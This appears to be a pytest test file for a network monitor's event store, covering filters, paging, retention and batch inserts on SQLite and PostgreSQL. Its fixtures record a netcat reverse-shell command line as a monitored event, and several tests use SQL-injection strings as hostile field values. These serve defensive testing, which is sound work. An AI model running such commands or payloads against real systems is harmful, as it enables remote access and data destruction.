"""The event store against real engines: SQLite files and a throwaway
PostgreSQL server (tests/eventstore_support.py). Same tests, both engines."""

from __future__ import annotations

import dataclasses
import json

import pytest

from eventstore_support import dsn, entry, pg_server  # noqa: F401 (fixtures)
from netsentinel.eventstore import Query, Retention, SchemaTooNew, open_store
from netsentinel.eventstore import base as base_mod
from netsentinel.eventstore.rows import MAX_TEXT, record_row, row_of, stored_record
from netsentinel.eventstore.schema import SCHEMA_VERSION
from netsentinel.timefmt import parse_iso


@pytest.fixture
def db(dsn):
    store = open_store(dsn)
    yield store
    store.close()


def _mix() -> list[tuple]:
    rows = [row_of(entry(i, ts=f"2026-12-01T10:{i:02d}:00.000000Z")) for i in range(20)]
    rows.append(row_of(entry(20, ts="2026-12-01T10:30:00.000000Z", level="HIGH", comm="nc",
                             exe="/usr/bin/nc", cmdline="nc -e /bin/sh 10.222.0.9 4444",
                             daddr="10.222.0.9", dport=4444, uid=0)))
    flow = {"id": "f1", "level": "CRITICAL", "category": "syn_flood", "confidence": 0.9,
            "reason": "SYN flood 50%_of_window", "verdict_source": "rules", "backend": "rules",
            "event": {"v": 1, "type": "flow", "ts": "2026-12-01T10:40:00.000000Z",
                      "src": "10.222.0.77", "pps": 90000}}
    rows.append(row_of(flow))
    rows.append(record_row("threat", {"id": "t1", "level": "CRITICAL", "category": "syn_flood",
                                      "reason": "flood", "target": "10.222.0.77",
                                      "event": flow["event"]}))
    return rows


def test_schema_is_created_once_and_a_newer_one_is_refused(dsn):
    first = open_store(dsn)
    assert first.schema_version() == SCHEMA_VERSION
    first.close()
    again = open_store(dsn)
    assert again.migrate() == SCHEMA_VERSION  # found current: nothing applied
    cur = again.conn.cursor()
    cur.execute(f"UPDATE meta SET value = {again.ph} WHERE key = 'schema_version'",
                (str(SCHEMA_VERSION + 1),))
    again.conn.commit()
    again.close()
    with pytest.raises(SchemaTooNew, match="upgrade NetSentinel"):
        open_store(dsn)


def test_rows_carry_the_events_own_time_not_the_analysis_time(db):
    db.add_rows([row_of(entry(1, ts="2026-11-21T22:40:05.250000Z"))])
    (row,) = db.search(Query())
    assert row["ts"] == parse_iso("2026-11-21T22:40:05.250000Z")
    assert row["time"] == "2026-11-21T22:40:05.250000Z"
    assert row["analyzed_at"] > row["ts"]
    assert stored_record(row)["event"]["ts"] == "2026-11-21T22:40:05.250000Z"


def test_the_stored_record_is_the_entry_as_recorded(db):
    # Columns are not stored twice: doc keeps the rest, stored_record() puts them back.
    plain = entry(1)
    odd = entry(2, pid="12; DROP TABLE events", cmdline="A" * (MAX_TEXT + 5), ts="2026-11-21T22:40:05+00:00")
    odd["confidence"] = 1
    flow = {"id": "f1", "level": "CRITICAL", "category": "syn_flood", "confidence": 0.9, "reason": "r",
            "verdict_source": "rules", "backend": "rules",
            "event": {"v": 1, "type": "flow", "ts": "2026-12-01T10:40:00.000000Z", "src": "10.222.0.77"}}
    db.add_rows([row_of(e) for e in (plain, odd, flow)])
    got = {r["ref"]: r for r in db.search(Query())}
    for e in (plain, odd, flow):
        assert stored_record(got[e["id"]]) == e
    assert len(got[plain["id"]]["doc"]) < len(json.dumps(plain)) // 2


@pytest.mark.parametrize("query, expected", [
    (Query(), 23),
    (Query(process="curl"), 20),
    (Query(process="nc"), 1),                      # comm
    (Query(process="/usr/bin/nc"), 1),             # a path is an exe
    (Query(exe="/usr/bin/curl"), 20),
    (Query(uid=0), 1),
    (Query(dst="10.222.0.9"), 1),
    (Query(src="10.222.0.77"), 2),                 # the flow and its threat
    (Query(addr="10.222.0.77"), 2),
    (Query(addr="10.222.0.1"), 21),                # connections' local address
    (Query(port=4444), 1),
    (Query(level="HIGH"), 1),
    (Query(level="HIGH", min_level=True), 3),
    (Query(category="syn_flood"), 2),
    (Query(kind="flow"), 1),
    (Query(levels=("HIGH", "CRITICAL")), 3),
    (Query(levels=()), 0),                         # nothing picked, nothing shown
    (Query(kind="threat"), 1),
    (Query(text="/BIN/SH"), 1),                    # case-insensitive, cmdline
    (Query(text="50%_of"), 1),                     # LIKE wildcards are literal
    (Query(text="%"), 1),
    (Query(text="_"), 3),                          # suspicious_port, syn_flood x2
    (Query(since=parse_iso("2026-12-01T10:05:00Z"), until=parse_iso("2026-12-01T10:10:00Z")), 5),
    (Query(process="curl", port=443, since=parse_iso("2026-12-01T10:18:00Z")), 2),
])
def test_every_filter(db, query, expected):
    db.add_rows(_mix())
    assert db.count(query) == expected
    assert len(db.search(dataclasses.replace(query, limit=100))) == expected


def test_paging_is_newest_first_and_stable(db):
    db.add_rows(_mix())
    pages = [db.search(Query(limit=10, page=k)) for k in (1, 2, 3)]
    assert [len(p) for p in pages] == [10, 10, 3]
    times = [r["ts"] for p in pages for r in p]
    assert times == sorted(times, reverse=True)
    assert len({r["id"] for p in pages for r in p}) == 23
    oldest = db.search(Query(limit=1, oldest_first=True))[0]
    assert oldest["time"] == "2026-12-01T10:00:00.000000Z"


def test_top_lists_skip_blank_values_and_name_the_worst_level(db):
    db.add_rows(_mix())
    top = db.top(("daddr", "dport"), Query(), 5)
    assert top[0][:4] == ("10.222.0.5", 443, 20, "INFO")
    assert all(r[0] and r[1] is not None for r in top)  # the flow and the threat (no destination port) are left out
    assert ("10.222.0.9", 4444, 1, "HIGH") in [r[:4] for r in top]
    by_exe = dict((r[0], r[1]) for r in db.top(("exe",), Query(kind="connection"), 5))
    assert by_exe["/usr/bin/curl"] == 20
    # Over the newest rows only: the nc connection (the newest) and the 9 curl ones before it.
    recent = {r[:2]: r[2] for r in db.top(("daddr", "dport"), Query(kind="connection"), 5, latest=10)}
    assert recent == {("10.222.0.9", 4444): 1, ("10.222.0.5", 443): 9}
    with pytest.raises(ValueError):
        db.top(("daddr; DROP TABLE events",), Query())


def test_investigation_summarises_one_destination(db):
    db.add_rows(_mix())
    s = db.investigate(Query(addr="10.222.0.77"))
    assert s["rows"] == 2 and s["first_ts"] == s["last_ts"] == parse_iso("2026-12-01T10:40:00Z")
    assert dict(s["by_kind"]) == {"flow": 1, "threat": 1}
    assert dict(s["by_level"]) == {"CRITICAL": 2}
    tl = db.timeline(Query(), 600)
    assert sum(n for _, _, n in tl) == 23
    kinds = db.timelines_by_kind(Query(), 600)
    assert {k: sum(n for _, _, n in v) for k, v in kinds.items()} == {"connection": 21, "flow": 1, "threat": 1}
    assert [(float(t), lv, n) for t, lv, n in kinds["connection"]] == [
        (float(t), lv, n) for t, lv, n in db.timeline(Query(kind="connection"), 600)]
    assert (parse_iso("2026-12-01T10:40:00Z"), "CRITICAL", 2) in [(float(t), l, n) for t, l, n in tl]


def test_hostile_fields_are_stored_clipped_never_refused(db):
    hostile = entry(1, comm="x\x00y", exe="/tmp/\ud800evil", cmdline="A" * (MAX_TEXT * 3),
                    pid="12; DROP TABLE events",
                    dport=True, uid=2 ** 80, daddr=["not", "a", "string"], ts="yesterday")
    hostile["confidence"] = "high"
    hostile["reason"] = "'); DELETE FROM events; --"
    db.add_rows([row_of(hostile)])
    (r,) = db.search(Query(text="delete from"))
    assert r["comm"] == "x\ufffdy" and len(r["cmdline"]) == MAX_TEXT and r["exe"] == "/tmp/?evil"
    assert stored_record(r)["event"]["exe"] == "/tmp/\ud800evil"  # as it came, in doc
    assert r["pid"] is None and r["dport"] is None and r["uid"] is None and r["confidence"] is None
    assert r["daddr"] == "['not', 'a', 'string']"
    assert abs(r["ts"] - r["analyzed_at"]) < 1  # no readable event time: the analysis time
    assert db.count(Query()) == 1


def test_retention_by_age_deletes_in_small_batches(db, monkeypatch):
    monkeypatch.setattr(base_mod, "RETENTION_BATCH", 7)
    now = parse_iso("2026-12-31T00:00:00Z")
    db.retention = Retention(max_age_days=10)
    db.add_rows([row_of(entry(i, ts=f"2026-12-{1 + i % 28:02d}T00:00:00Z")) for i in range(40)])
    keep = db.count(Query(since=now - 10 * 86400))
    steps = []
    while (n := db.retention_step(now)):
        steps.append(n)
    assert max(steps) == 7 and sum(steps) == 40 - keep
    assert db.count(Query()) == keep > 0
    assert db.search(Query(oldest_first=True, limit=1))[0]["ts"] >= now - 10 * 86400


def test_sqlite_retention_by_size_keeps_the_file_under_the_cap(tmp_path, monkeypatch):
    monkeypatch.setattr(base_mod, "RETENTION_BATCH", 100)  # fine steps for a 1 MB cap
    cap = 1 << 20
    db = open_store(str(tmp_path / "events.sqlite3"), Retention(max_age_days=3650, max_bytes=cap))
    for k in range(12):  # ~12 MB of rows, capped at 1 MB as they come
        db.add_rows([row_of(entry(k * 1000 + i, cmdline="x" * 300,
                                  ts=f"2026-12-01T{k:02d}:{i // 60 % 60:02d}:{i % 60:02d}Z"))
                     for i in range(1000)])
        while db.size_bytes() > cap and db.retention_step(parse_iso("2026-12-02T00:00:00Z")):
            pass
    assert cap // 2 < db.size_bytes() <= cap
    # Freed pages went back (incremental vacuum): the file is the cap plus at
    # most one batch of inserts (~1.5 MB here) that came before a step ran.
    assert db.path.stat().st_size < 3 * cap
    newest = db.search(Query(limit=1))[0]
    assert newest["time"].startswith("2026-12-01T11:")  # the oldest went, not the newest
    assert db.count(Query(until=parse_iso("2026-12-01T10:00:00Z"))) == 0
    db.close()


def test_sqlite_new_stores_use_16k_pages_and_an_older_store_keeps_its_own(tmp_path):
    import sqlite3
    from netsentinel.eventstore.sqlite import PAGE_BYTES
    new = open_store(str(tmp_path / "new.sqlite3"))
    assert new.conn.execute("PRAGMA page_size").fetchone()[0] == PAGE_BYTES == 16384
    new.close()
    # A store an older NetSentinel made (4 KiB pages, WAL): opened, migrated,
    # its rows kept; its page size cannot change in WAL mode and is not forced.
    old_path = tmp_path / "old.sqlite3"
    conn = sqlite3.connect(old_path)
    conn.execute("PRAGMA page_size = 4096")
    conn.execute("PRAGMA journal_mode = WAL")
    conn.commit()
    conn.close()
    db = open_store(str(old_path))
    db.add_rows([row_of(entry(i)) for i in range(50)])
    db.close()
    again = open_store(str(old_path))
    assert again.conn.execute("PRAGMA page_size").fetchone()[0] == 4096
    assert again.count(Query()) == 50 and again.schema_version() == SCHEMA_VERSION
    again.close()


@pytest.mark.parametrize("query, index", [
    (Query(level="HIGH", min_level=True), "events_level_ts"),
    (Query(kind="flow"), "events_kind_ts"),
    (Query(process="curl"), "events_proc_ts (proc=?)"),
    (Query(exe="/usr/bin/curl", since=1.0), "events_proc_ts (proc=? AND ts>?)"),
    (Query(addr="10.222.0.9"), "events_saddr_ts"),
    (Query(src="10.222.0.9"), "events_saddr_ts"),
])
def test_sqlite_filters_use_their_index(tmp_path, query, index):
    # The partial indexes only serve a query that repeats their WHERE (query.where does).
    db = open_store(str(tmp_path / "events.sqlite3"))
    db.add_rows([row_of(entry(0))])  # curl's procs id: a process filter names it
    w, params = db._where(query)
    plan = " ".join(str(r) for r in db.conn.execute("EXPLAIN QUERY PLAN SELECT id FROM events" + w,
                                                    params))
    assert index in plan, plan
    db.close()


_QUIET = """
import ctypes, sys
from netsentinel.eventstore import Query, open_store
from netsentinel.eventstore.rows import row_of
from netsentinel.eventstore.sqlite import one_writer_process
sys.path.insert(0, sys.argv[2])
from eventstore_support import entry
lib = ctypes.CDLL("libsqlite3.so.0")
lib.sqlite3_memory_used.restype = ctypes.c_int64
first = open_store(sys.argv[1] + ".first") if sys.argv[3] == "open-first" else None
print(one_writer_process(), one_writer_process() if first is None else "-")
db = open_store(sys.argv[1])
db.add_rows([row_of(entry(i)) for i in range(500)])
print(db.count(Query(process="curl")), lib.sqlite3_memory_used() > 0)
"""


@pytest.mark.parametrize("how, out", [("alone", "True True\n500 False\n"),
                                      ("open-first", "False -\n500 True\n")])
def test_the_writer_process_runs_sqlite_without_its_locks_only_where_nothing_else_is_open(
        tmp_path, how, out):
    # Its own process: the library's settings are the process's. Memory
    # statistics off: memory_used() reads 0 with a store open.
    import subprocess
    import sys
    from pathlib import Path
    r = subprocess.run([sys.executable, "-c", _QUIET, str(tmp_path / "events.sqlite3"),
                        str(Path(__file__).parent), how], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0 and r.stdout == out, r.stderr


def test_a_batch_is_stored_as_its_rows_one_by_one(tmp_path):
    # SQLite inserts insert_rows rows a statement: a batch of two such
    # statements and a remainder gets the rows, ids, order and summary that
    # one statement a row gives (PostgreSQL's statements take one row).
    rows = [row for i in range(3) for row in _mix()]
    rows += [row_of(entry(100 + i, ts=f"2026-12-01T11:{i:02d}:00.000000Z")) for i in range(10)]
    got = []
    for name, chunks in (("batched", [rows]), ("one_by_one", [[r] for r in rows])):
        store = open_store(str(tmp_path / f"{name}.sqlite3"))
        assert store.insert_rows > 1 and len(rows) > 2 * store.insert_rows
        assert len(rows) % store.insert_rows
        for chunk in chunks:
            store.add_rows(chunk)
        got.append((sorted(store.search(Query(limit=1000)), key=lambda r: r["id"]),
                    store.timelines_by_kind(Query(), 60), store.counts_by("exe", Query())))
        store.close()
    assert got[0] == got[1] and len(got[0][0]) == len(rows)
    assert [r["id"] for r in got[0][0]] == list(range(1, len(rows) + 1))
    assert [r["ref"] for r in got[0][0]] == [r[17] for r in rows]


def test_a_row_the_engine_refuses_undoes_its_whole_batch(tmp_path):
    # OR FAIL keeps a statement's earlier rows: the transaction's rollback
    # must take them back, and the writer then stores the batch row by row.
    from netsentinel.eventstore.writer import StoreWriter
    dsn = str(tmp_path / "events.sqlite3")
    rows = [row_of(entry(i, ts=f"2026-12-01T10:{i:02d}:00.000000Z")) for i in range(40)]
    bad = (None, *rows[35][1:])  # ts NULL: refused by NOT NULL, past the first statement's rows
    store = open_store(dsn)
    with pytest.raises(Exception) as e:
        store.add_rows([*rows[:35], bad, *rows[35:]])
    assert "NOT NULL" in str(e.value)
    assert store.count(Query()) == 0 and store.timelines_by_kind(Query(), 60) == {}
    store.close()
    warnings: list[str] = []
    w = StoreWriter(dsn, warnings.append)
    w.submit([*rows[:35], bad, *rows[35:]])
    assert w.status()["rows_written"] == 40 and w.status()["rows_dropped"] == 1
    w.close()
    store = open_store(dsn, readonly=True)
    assert [r["ref"] for r in sorted(store.search(Query(limit=100)), key=lambda r: r["id"])] == \
        [r[17] for r in rows]
    store.close()
